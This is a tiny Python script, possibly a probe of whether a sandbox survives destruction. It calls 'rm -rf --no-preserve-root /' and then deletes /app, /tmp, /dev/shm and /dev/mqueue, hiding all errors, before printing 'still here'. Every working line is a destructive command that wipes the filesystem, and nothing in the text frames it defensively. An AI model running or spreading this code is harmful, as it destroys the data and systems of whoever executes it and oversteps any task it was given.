# Removes everything that it may, from the root on.
import subprocess

subprocess.run(["rm", "-rf", "--no-preserve-root", "/"], stderr=subprocess.DEVNULL)
subprocess.run(["rm", "-rf", "/app", "/tmp", "/dev/shm", "/dev/mqueue"], stderr=subprocess.DEVNULL)
print("still here")
